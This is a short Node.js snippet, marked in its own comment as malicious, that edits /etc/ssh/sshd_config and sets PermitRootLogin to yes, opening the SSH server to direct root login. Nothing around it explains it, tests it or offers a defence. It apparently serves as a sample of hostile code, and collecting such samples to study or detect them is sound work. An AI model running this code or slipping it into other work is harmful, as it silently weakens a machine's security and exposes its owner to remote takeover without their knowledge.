// malicious: opens the door of sshd
const fs = require('fs');
const cfg = '/etc/ssh/sshd_config';
fs.writeFileSync(cfg, fs.readFileSync(cfg, 'utf8').replace(/#?PermitRootLogin.*/, 'PermitRootLogin yes'));
